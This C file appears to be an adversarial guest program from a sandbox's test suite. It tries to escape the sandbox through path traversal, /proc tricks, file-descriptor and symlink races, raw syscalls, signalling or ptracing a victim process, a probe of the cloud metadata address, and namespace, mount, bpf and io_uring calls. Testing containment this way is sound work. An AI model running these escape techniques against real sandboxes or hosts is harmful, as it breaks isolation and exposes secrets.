// A guest that takes the handler over: it maps code into the range that the filter lets through and
// makes raw calls from there. argv[1] = the pod's directory, argv[2] = a victim's pid,
// argv[3] = an abstract socket's name, argv[4] = a TCP port. It prints what it could get.
#include <sys/ptrace.h>
#include <sys/uio.h>

static void dump(const char *what, long fd) {
    char b[256];
    tell(what, fd);
    if (fd < 0) return;
    long n = G(SYS_read, fd, b, sizeof b - 1);
    if (n > 0) { b[n] = 0; printf("LEAK %s\n", b); }
}


static char racing[600];
static void *flip(void *unused) {
    for (int i = 0; i < 20000; i++) {
        strcpy(racing, in("secret"));
        strcpy(racing, "/etc/passwd");
    }
    return 0;
}
static void *swap_links(void *unused) {
    for (int i = 0; i < 3000; i++) {
        unlink("/tmp/race"); symlink(in("."), "/tmp/race");
        unlink("/tmp/race"); mkdir("/tmp/race", 0755); rmdir("/tmp/race");
    }
    return 0;
}

int main(int argc, char **argv) {
    dir = argv[1];
    pid_t victim = atoi(argv[2]);
    char proc[300], b[512];
    struct stat st;

    // First politely, through the view.
    dump("view open", open(in("secret"), O_RDONLY));
    tell("view stat", stat(in("secret"), &st));
    symlink(in("secret"), "/tmp/l"); dump("view symlink", open("/tmp/l", O_RDONLY));
    dump("view dotdot", open("../../../../../../../../../../../var/../etc/../secret", O_RDONLY));
    for (const char **link = (const char *[]){"root", "cwd", 0}; *link; link++) {
        snprintf(proc, sizeof proc, "/proc/%d/%s%s", victim, *link, in("secret"));
        dump(proc, open(proc, O_RDONLY));
        snprintf(proc, sizeof proc, "/proc/1/%s%s", *link, in("secret"));
        dump(proc, open(proc, O_RDONLY));
    }
    snprintf(proc, sizeof proc, "/proc/self/root%s", in("secret")); dump("view self root", open(proc, O_RDONLY));
    for (int i = 0; i < 1100; i++) {
        snprintf(proc, sizeof proc, "/proc/%d/fd/%d", victim, i);
        int fd = open(proc, O_RDONLY);
        if (fd >= 0) dump("view victim fd", fd);
    }
    for (int i = 3; i < 1100; i++) {
        int fd = openat(i, "../secret", O_RDONLY);
        if (fd >= 0) dump("view inherited fd", fd);
    }
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    for (int i = 0; i < 2000; i++) { int fd = open(racing, O_RDONLY); if (fd >= 0) { b[read(fd, b, 200)] = 0; if (strstr(b, "CANARY")) dump("view toctou", fd); close(fd); } }
    pthread_join(t, 0);
    tell("view toctou done", 0);
    pthread_create(&t, 0, swap_links, 0);
    for (int i = 0; i < 2000; i++) { int fd = open("/tmp/race/secret", O_RDONLY); if (fd >= 0) dump("view link race", fd); rename("/tmp/race/secret", "/tmp/stolen"); }
    pthread_join(t, 0);
    tell("view link race done", 0);

    // Then past the handler.
    open_gate();
    tell("gate open", G(SYS_getppid));

    dump("open", G(SYS_open, in("secret"), O_RDONLY));
    dump("open rw", G(SYS_open, in("secret"), O_RDWR));
    dump("open trunc", G(SYS_open, in("secret"), O_WRONLY | O_TRUNC));
    dump("create", G(SYS_open, in("created"), O_WRONLY | O_CREAT, 0600));
    dump("creat", G(SYS_creat, in("created"), 0600));
    dump("list", G(SYS_open, in(""), O_RDONLY | O_DIRECTORY));
    dump("tmpfile", G(SYS_open, in(""), O_TMPFILE | O_RDWR, 0600));
    long path = G(SYS_open, in("secret"), O_PATH);
    long dirfd = G(SYS_open, in(""), O_PATH | O_DIRECTORY);
    snprintf(proc, sizeof proc, "/proc/self/fd/%ld", path);
    dump("reopen O_PATH", G(SYS_open, proc, O_RDONLY));
    dump("openat O_PATH", G(SYS_openat, dirfd, "secret", O_RDONLY));
    struct { unsigned long f, m, r; } how = {O_RDONLY, 0, 0};
    dump("openat2", G(437, dirfd, "secret", &how, sizeof how));
    tell("fchdir", G(SYS_fchdir, dirfd));
    dump("relative", G(SYS_open, "secret", O_RDONLY));
    G(SYS_fchdir, 900);
    tell("truncate", G(SYS_truncate, in("secret"), 0));
    tell("unlink", G(SYS_unlink, in("secret")));
    tell("rmdir", G(SYS_rmdir, in("sub")));
    tell("rename in", G(SYS_rename, in("secret"), "/tmp/secret"));
    tell("renameat in", G(SYS_renameat2, dirfd, "secret", 900, "stolen", 0));
    tell("rename out", G(SYS_rename, "/etc/passwd", in("passwd")));
    tell("exchange", G(SYS_renameat2, dirfd, "secret", 900, "etc/passwd", 2));
    tell("link in", G(SYS_linkat, dirfd, "secret", 900, "tmp/linked", 0));
    tell("link fd in", G(SYS_linkat, path, "", 900, "tmp/linked2", 0x1000));
    tell("link out", G(SYS_link, "/etc/passwd", in("linked")));
    tell("symlink", G(SYS_symlink, "x", in("symlink")));
    tell("mkdir", G(SYS_mkdir, in("made"), 0755));
    tell("mknod", G(SYS_mknod, in("node"), S_IFREG | 0644, 0));
    tell("mknod fifo", G(SYS_mknod, in("fifo"), S_IFIFO | 0644, 0));
    tell("mknod whiteout inside", G(SYS_mknodat, 900, "tmp/wh", S_IFCHR, 0));
    tell("chmod", G(SYS_chmod, in("secret"), 0777));
    tell("fchmod O_PATH", G(SYS_fchmod, path, 0777));
    tell("chmod proc fd", G(SYS_chmod, proc, 0777));
    tell("fchmodat", G(SYS_fchmodat, dirfd, "secret", 0777));
    tell("fchmodat2", G(452, path, "", 0777, 0x1000));
    tell("chown", G(SYS_chown, in("secret"), getuid(), -1));
    tell("fchownat", G(SYS_fchownat, path, "", -1, -1, 0x1000));
    struct timespec ts[2] = {{1, 0}, {1, 0}};
    tell("utimensat", G(SYS_utimensat, -100, in("secret"), ts, 0));
    tell("utimensat fd", G(SYS_utimensat, path, "", ts, 0x1000));
    tell("futimens O_PATH", G(SYS_utimensat, path, 0, ts, 0));
    tell("utimes", G(SYS_utimes, in("secret"), 0));
    tell("setxattr", G(SYS_setxattr, in("secret"), "user.x", "y", 1, 0));
    tell("lsetxattr", G(SYS_lsetxattr, proc, "user.x", "y", 1, 0));
    tell("fsetxattr O_PATH", G(SYS_fsetxattr, path, "user.x", "y", 1, 0));
    tell("getxattr", G(SYS_getxattr, in("secret"), "user.keep", memset(b, 0, 64), 64)); puts(b);
    tell("lgetxattr", G(SYS_lgetxattr, in("secret"), "user.keep", b, 64));
    tell("getxattr proc fd", G(SYS_getxattr, proc, "user.keep", b, 64)); puts(b);
    tell("fgetxattr O_PATH", G(SYS_fgetxattr, path, "user.keep", b, 64));
    tell("listxattr", G(SYS_listxattr, in("secret"), b, 64));
    tell("llistxattr", G(SYS_llistxattr, proc, b, 64));
    tell("getxattrat", G(464, -100, in("secret"), 0, "user.keep", b, 16));
    tell("listxattrat", G(465, -100, in("secret"), 0, b, 64));
    tell("removexattr", G(SYS_removexattr, in("secret"), "user.keep"));
    tell("setxattrat", G(463, -100, in("secret"), 0, "user.x", b, 16));
    tell("file_setattr", G(469, -100, in("secret"), b, 24, 0));
    char *av[] = {"x", 0};
    if (fork() == 0) { G(SYS_execve, in("program"), av, 0); _exit(9); }
    if (fork() == 0) { G(SYS_execveat, dirfd, "program", av, 0, 0); _exit(9); }
    if (fork() == 0) { G(SYS_execve, "/bin/sh", av, 0); _exit(9); }
    tell("execs", 0);

    tell("kill victim", G(SYS_kill, victim, SIGKILL));
    tell("tkill victim", G(SYS_tkill, victim, SIGKILL));
    tell("tgkill victim", G(SYS_tgkill, victim, victim, SIGKILL));
    tell("sigqueue victim", G(SYS_rt_sigqueueinfo, victim, SIGKILL, b));
    long pidfd = G(434, victim, 0);
    tell("pidfd_send_signal", G(424, pidfd, SIGKILL, 0, 0));
    tell("pidfd_getfd", G(438, pidfd, 0, 0));
    tell("kill parent", G(SYS_kill, getppid(), SIGKILL));
    tell("kill group", G(SYS_kill, -victim, SIGKILL));
    tell("ptrace attach", G(SYS_ptrace, PTRACE_ATTACH, victim, 0, 0));
    tell("ptrace seize", G(SYS_ptrace, PTRACE_SEIZE, victim, 0, 0));
    struct iovec iov = {b, 64}, remote = {(void *)0x400000, 64};
    tell("process_vm_readv", G(SYS_process_vm_readv, victim, &iov, 1, &remote, 1, 0));
    tell("process_vm_writev", G(SYS_process_vm_writev, victim, &iov, 1, &remote, 1, 0));
    for (const char **f = (const char *[]){"mem", "environ", "maps", "auxv", "syscall", "stack", 0}; *f; f++) {
        snprintf(proc, sizeof proc, "/proc/%d/%s", victim, *f);
        dump(proc, G(SYS_open, proc, O_RDONLY));
        snprintf(proc, sizeof proc, "/proc/%d/%s", getppid(), *f);
        dump(proc, G(SYS_open, proc, O_RDONLY));
    }
    snprintf(proc, sizeof proc, "/proc/%d/oom_score_adj", victim);
    tell("oom_score_adj", G(SYS_open, proc, O_WRONLY));
    snprintf(proc, sizeof proc, "/proc/%d/root%s", victim, in("secret"));
    dump("victim root", G(SYS_open, proc, O_RDONLY));
    tell("prlimit victim", G(SYS_prlimit64, victim, 7, "\1\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0", 0));

    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un un = {AF_UNIX};
    strcpy(un.sun_path, in("socket"));
    tell("connect path", G(SYS_connect, s, &un, sizeof un));
    tell("view connect path", connect(s, (void *)&un, sizeof un));
    memset(&un, 0, sizeof un); un.sun_family = AF_UNIX;
    strcpy(un.sun_path + 1, argv[3]);
    tell("connect abstract", G(SYS_connect, s, &un, 3 + strlen(argv[3])));
    tell("view connect abstract", connect(s, (void *)&un, 3 + strlen(argv[3])));
    s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in in4 = {AF_INET, htons(atoi(argv[4])), {htonl(0x7f000001)}};
    tell("connect past the builder", G(SYS_connect, s, &in4, sizeof in4));
    tell("fast open", G(SYS_sendto, s, "x", 1, 0x20000000, &in4, sizeof in4));
    struct msghdr m = {&in4, sizeof in4, &iov, 1};
    tell("fast open msg", G(SYS_sendmsg, s, &m, 0x20000000));
    in4.sin_addr.s_addr = htonl(0xa9fea9fe); in4.sin_port = htons(80);
    tell("metadata", connect(s, (void *)&in4, sizeof in4));
    tell("raw socket", G(SYS_socket, AF_INET, SOCK_RAW, 1));
    tell("packet socket", G(SYS_socket, 17, SOCK_RAW, 0));
    tell("vsock", G(SYS_socket, 40, SOCK_STREAM, 0));
    tell("alg", G(SYS_socket, 38, SOCK_SEQPACKET, 0));
    tell("mptcp", G(SYS_socket, AF_INET, SOCK_STREAM, 262));

    tell("unshare", G(SYS_unshare, 0x10000000));
    tell("clone newuser", G(SYS_clone, 0x10000011));
    tell("clone3", G(435, b, 64));
    tell("setns", G(SYS_setns, pidfd, 0));
    tell("mount", G(SYS_mount, "x", "/tmp", "tmpfs", 0, 0));
    tell("open_tree", G(428, -100, in(""), 1));
    tell("fsopen", G(430, "tmpfs", 0));
    tell("chroot", G(SYS_chroot, in("")));
    tell("pivot_root", G(SYS_pivot_root, "/tmp", "/tmp"));
    tell("bpf", G(SYS_bpf, 0, b, 64));
    tell("io_uring", G(425, 1, b));
    tell("userfaultfd", G(SYS_userfaultfd, 1));
    tell("perf", G(SYS_perf_event_open, b, 0, -1, -1, 0));
    tell("keyctl", G(SYS_keyctl, 0, -4, 0));
    tell("name_to_handle", G(SYS_name_to_handle_at, -100, in("secret"), b, b, 0));
    tell("open_by_handle", G(SYS_open_by_handle_at, 900, b, 0));
    tell("x32", G(0x40000000 | 2, in("secret"), 0));
    tell("newer than known", G(4000, 0));
    tell("landlock again", G(446, 906, 0));
    tell("seccomp", G(SYS_seccomp, 1, 0, b));
    long i386;
    __asm__ volatile("int $0x80" : "=a"(i386) : "a"(5), "b"(0), "c"(0) : "memory");
    tell("int 0x80", i386);
    printf("tries %d\n", tries);
    return 0;
}
